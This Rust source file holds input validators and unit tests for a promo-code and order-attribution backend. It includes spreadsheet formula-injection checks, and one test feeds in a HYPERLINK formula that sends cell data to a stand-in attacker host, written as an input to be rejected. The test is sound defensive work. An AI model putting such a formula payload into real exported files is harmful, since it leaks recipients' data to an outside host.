//! Checks on user input, shared by GraphQL, the CLI and the demo seeder. Each
//! returns the cleaned value or a sentence saying what is wrong.

use chrono::{DateTime, Duration, Utc};
use chrono_tz::Tz;
use rust_decimal::Decimal;

use super::money::{MAX_ORDER_AMOUNT, format_money};

pub type Invalid = String;

/// How old an order may be when it arrives: shops retry for two days, and an
/// older order would skip most of its hold period.
pub const MAX_ORDER_AGE_DAYS: i64 = 7;
/// How far ahead of our clock an order's time may be (clock skew).
pub const MAX_ORDER_LEAD_HOURS: i64 = 24;

/// An id from outside (an order, a refund): trimmed, 1 to 200 characters, no
/// control characters (PostgreSQL refuses NUL in text; the rest are never real).
pub fn external_id(field: &str, value: &str) -> Result<String, Invalid> {
    let trimmed = value.trim();
    if trimmed.is_empty() || trimmed.chars().count() > 200 {
        return Err(format!("{field} must be 1 to 200 characters"));
    }
    if trimmed.chars().any(char::is_control) {
        return Err(format!("{field} must not contain control characters"));
    }
    Ok(trimmed.to_string())
}

/// A promo or discount code as a brand may choose it: 3 to 64 letters, digits,
/// `-` or `_`, starting with a letter or digit.
pub fn promo_code_shape(code: &str) -> bool {
    let mut chars = code.chars();
    (3..=64).contains(&code.len())
        && chars.next().is_some_and(|c| c.is_ascii_alphanumeric())
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
}

/// A promo code as a shopper typed it: at most 64 characters, no control characters.
pub fn typed_code(value: &str) -> Option<String> {
    let trimmed = value.trim();
    let plausible = !trimmed.is_empty() && trimmed.len() <= 64 && !trimmed.chars().any(char::is_control);
    plausible.then(|| trimmed.to_string())
}

/// A sale amount: not negative and at most `MAX_ORDER_AMOUNT`.
pub fn sale_amount(field: &str, amount: Decimal) -> Result<Decimal, Invalid> {
    if amount.is_sign_negative() {
        return Err(format!("{field} must not be negative"));
    }
    if amount > MAX_ORDER_AMOUNT {
        return Err(format!("{field} must be at most {}", format_money(MAX_ORDER_AMOUNT)));
    }
    Ok(amount)
}

/// An order's time: within `MAX_ORDER_AGE_DAYS` before `now` and
/// `MAX_ORDER_LEAD_HOURS` after it.
pub fn order_time(at: DateTime<Utc>, now: DateTime<Utc>) -> Result<DateTime<Utc>, Invalid> {
    if at < now - Duration::days(MAX_ORDER_AGE_DAYS) {
        return Err(format!(
            "the order's time {at} is more than {MAX_ORDER_AGE_DAYS} days ago; older orders are not attributed"
        ));
    }
    if at > now + Duration::hours(MAX_ORDER_LEAD_HOURS) {
        return Err(format!("the order's time {at} is in the future"));
    }
    Ok(at)
}

/// A display name: trimmed, 1 to 200 characters, on one line.
pub fn name(field: &str, value: &str) -> Result<String, Invalid> {
    let trimmed = value.trim();
    if trimmed.chars().any(char::is_control) {
        return Err(format!("{field} must not contain control characters or line breaks"));
    }
    match trimmed.chars().count() {
        0 => Err(format!("{field} must not be empty")),
        1..=200 => Ok(trimmed.to_string()),
        _ => Err(format!("{field} must be at most 200 characters")),
    }
}

/// Characters a spreadsheet reads as the start of a formula, fullwidth forms
/// included (spreadsheets fold them), and the tab and carriage return that can
/// shift a cell.
const FORMULA_STARTS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether a spreadsheet could take `text` for a formula (leading spaces aside).
pub fn starts_like_a_formula(text: &str) -> bool {
    text.trim_start_matches(' ').starts_with(FORMULA_STARTS)
}

/// An email address: a local part of the characters RFC 5322 allows unquoted,
/// not starting like a formula (the address lands in payout files), an `@`, and
/// a domain of letters, digits, `-` and dots; at most 254 characters.
pub fn email(field: &str, value: &str) -> Result<String, Invalid> {
    const LOCAL_SYMBOLS: &str = "!#$%&'*+-/=?^_`{|}~.";
    let trimmed = value.trim();
    let valid = match trimmed.split_once('@') {
        Some((local, domain)) => {
            !local.is_empty()
                && !starts_like_a_formula(local)
                && local.chars().all(|c| c.is_alphanumeric() || LOCAL_SYMBOLS.contains(c))
                && domain.contains('.')
                && !domain.starts_with(['.', '-'])
                && !domain.ends_with('.')
                && domain.chars().all(|c| c.is_alphanumeric() || c == '-' || c == '.')
                && trimmed.len() <= 254
        }
        None => false,
    };
    if valid {
        Ok(trimmed.to_string())
    } else if trimmed
        .split_once('@')
        .is_some_and(|(local, _)| starts_like_a_formula(local))
    {
        Err(format!(
            "{field} must not start with =, +, -, @, a tab or a carriage return (a spreadsheet would run it)"
        ))
    } else {
        Err(format!("{field} is not a valid email address"))
    }
}

/// Where payouts go: an email address, or a phone number (PayPal pays both), kept
/// as `+` and digits.
pub fn payout_address(field: &str, value: &str) -> Result<String, Invalid> {
    let trimmed = value.trim();
    if trimmed.contains('@') {
        return email(field, trimmed).map_err(|_| format!("{field} is neither an email address nor a phone number"));
    }
    let phone: String = trimmed
        .chars()
        .filter(|c| !matches!(c, ' ' | '-' | '(' | ')' | '.'))
        .collect();
    let digits = phone.strip_prefix('+').unwrap_or(&phone);
    if (7..=15).contains(&digits.len()) && digits.chars().all(|c| c.is_ascii_digit()) {
        Ok(phone)
    } else {
        Err(format!("{field} is neither an email address nor a phone number"))
    }
}

/// An ISO 3166-1 alpha-2 country code, upper-cased.
pub fn country(value: &str) -> Result<String, Invalid> {
    let upper = value.trim().to_ascii_uppercase();
    if upper.len() == 2 && upper.chars().all(|c| c.is_ascii_uppercase()) {
        Ok(upper)
    } else {
        Err("country must be a two-letter ISO code such as US".to_string())
    }
}

/// An absolute http(s) URL with a host.
pub fn destination_url(value: &str) -> Result<String, Invalid> {
    let parsed = url::Url::parse(value.trim()).map_err(|_| "destinationUrl is not a valid URL".to_string())?;
    if !matches!(parsed.scheme(), "http" | "https") || parsed.host_str().is_none() {
        return Err("destinationUrl must be an http or https URL".to_string());
    }
    Ok(parsed.to_string())
}

/// A promo code prefix: 1 to 20 letters or digits, upper-cased.
pub fn code_prefix(value: &str) -> Result<String, Invalid> {
    let upper = value.trim().to_ascii_uppercase();
    if (1..=20).contains(&upper.len()) && upper.chars().all(|c| c.is_ascii_alphanumeric()) {
        Ok(upper)
    } else {
        Err("codePrefix must be 1 to 20 letters or digits".to_string())
    }
}

/// Where orders come from, e.g. `shopify`: 1 to 32 lower-case letters, digits, `-` or `_`.
pub fn order_source(value: &str) -> Result<String, Invalid> {
    let valid = (1..=32).contains(&value.len())
        && value
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '_');
    if valid {
        Ok(value.to_string())
    } else {
        Err("source must be 1 to 32 lower-case letters, digits, - or _, e.g. shopify".to_string())
    }
}

/// An IANA time zone name such as `America/New_York`.
pub fn time_zone(value: &str) -> Result<Tz, Invalid> {
    value
        .trim()
        .parse::<Tz>()
        .map_err(|_| format!("'{value}' is not an IANA time zone such as America/New_York"))
}

/// A URL slug made from a name: lower-case letters, digits and dashes.
pub fn slugify(name: &str) -> String {
    let mut slug = String::new();
    for c in name.chars().flat_map(char::to_lowercase) {
        if c.is_ascii_alphanumeric() {
            slug.push(c);
        } else if !slug.is_empty() && !slug.ends_with('-') {
            slug.push('-');
        }
    }
    let slug = slug.trim_end_matches('-');
    let slug: String = slug.chars().take(48).collect();
    if slug.is_empty() { "brand".to_string() } else { slug }
}

/// A Shopify store's domain, `name.myshopify.com` (lower-cased); anything else,
/// a custom domain included, is refused: Shopify's APIs answer only there.
pub fn shop_domain(value: &str) -> Result<String, Invalid> {
    let domain = value.trim().to_ascii_lowercase();
    let valid = domain.strip_suffix(".myshopify.com").is_some_and(|name| {
        name.len() <= 60
            && name.starts_with(|c: char| c.is_ascii_alphanumeric())
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
    });
    if valid {
        Ok(domain)
    } else {
        Err(format!(
            "'{}' is not a Shopify store domain like your-store.myshopify.com",
            value.trim()
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_trimmed_and_bounded() {
        assert_eq!(name("name", "  Summer  ").unwrap(), "Summer");
        assert_eq!(name("name", "   ").unwrap_err(), "name must not be empty");
        assert!(name("name", &"x".repeat(201)).is_err());
    }

    #[test]
    fn emails_need_a_domain() {
        assert_eq!(email("email", " ana@example.com ").unwrap(), "ana@example.com");
        for bad in [
            "ana",
            "ana@",
            "@example.com",
            "ana@example",
            "a na@example.com",
            "a@b@c.com",
            "ana@exa\u{0}mple.com",
            "\"quoted\"@example.com",
        ] {
            assert!(email("email", bad).is_err(), "{bad} should be rejected");
        }
        assert_eq!(
            email("email", "o'neil+shop@exa-mple.co.uk").unwrap(),
            "o'neil+shop@exa-mple.co.uk"
        );
    }

    #[test]
    fn emails_that_start_like_a_formula_are_refused() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/\"&B1,\"Click\")&\"@x.y\"",
            "=1+1@x.example",
            "+cmd@x.example",
            "-2@x.example",
            "\u{FF1D}1@x.example",
            "\u{FF20}a@x.example",
        ] {
            assert!(email("email", bad).is_err(), "{bad} should be rejected");
        }
        assert!(starts_like_a_formula("  =1"));
        assert!(starts_like_a_formula("\u{FF0B}1"));
        assert!(!starts_like_a_formula("Ana"));
    }

    #[test]
    fn urls_countries_prefixes_and_zones() {
        assert_eq!(
            destination_url("https://shop.example.com/p?x=1").unwrap(),
            "https://shop.example.com/p?x=1"
        );
        assert!(destination_url("ftp://example.com").is_err());
        assert!(destination_url("not a url").is_err());
        assert_eq!(country("us").unwrap(), "US");
        assert!(country("USA").is_err());
        assert_eq!(code_prefix("summer24").unwrap(), "SUMMER24");
        assert!(code_prefix("SUM-MER").is_err());
        assert!(time_zone("Europe/Paris").is_ok());
        assert!(time_zone("Mars/Base").is_err());
    }

    #[test]
    fn order_fields_are_bounded() {
        assert_eq!(external_id("id", " A-1 ").unwrap(), "A-1");
        assert!(external_id("id", "A\u{0}1").is_err());
        assert!(external_id("id", "\u{7}").is_err());
        assert!(external_id("id", &"x".repeat(201)).is_err());
        assert_eq!(typed_code(" SUMMER "), Some("SUMMER".into()));
        assert_eq!(typed_code("SUM\u{0}MER"), None);
        assert!(sale_amount("amount", Decimal::new(1_000_000_001, 2)).is_err());
        assert!(sale_amount("amount", Decimal::new(-1, 2)).is_err());
        let now = Utc::now();
        assert!(order_time(now - Duration::days(6), now).is_ok());
        assert!(order_time(now - Duration::days(8), now).is_err());
        assert!(order_time(now + Duration::hours(30), now).is_err());
    }

    #[test]
    fn slugs() {
        assert_eq!(slugify("Acme Outdoor Co."), "acme-outdoor-co");
        assert_eq!(slugify("  ***  "), "brand");
    }

    #[test]
    fn only_myshopify_domains_are_shop_domains() {
        assert_eq!(
            shop_domain(" Trail-Co.myshopify.com ").unwrap(),
            "trail-co.myshopify.com"
        );
        for bad in [
            "trail.com",
            "myshopify.com",
            ".myshopify.com",
            "-trail.myshopify.com",
            "trail.myshopify.com.evil.com",
            "tr ail.myshopify.com",
            "trail.co.myshopify.com",
        ] {
            assert!(shop_domain(bad).is_err(), "{bad}");
        }
    }
}
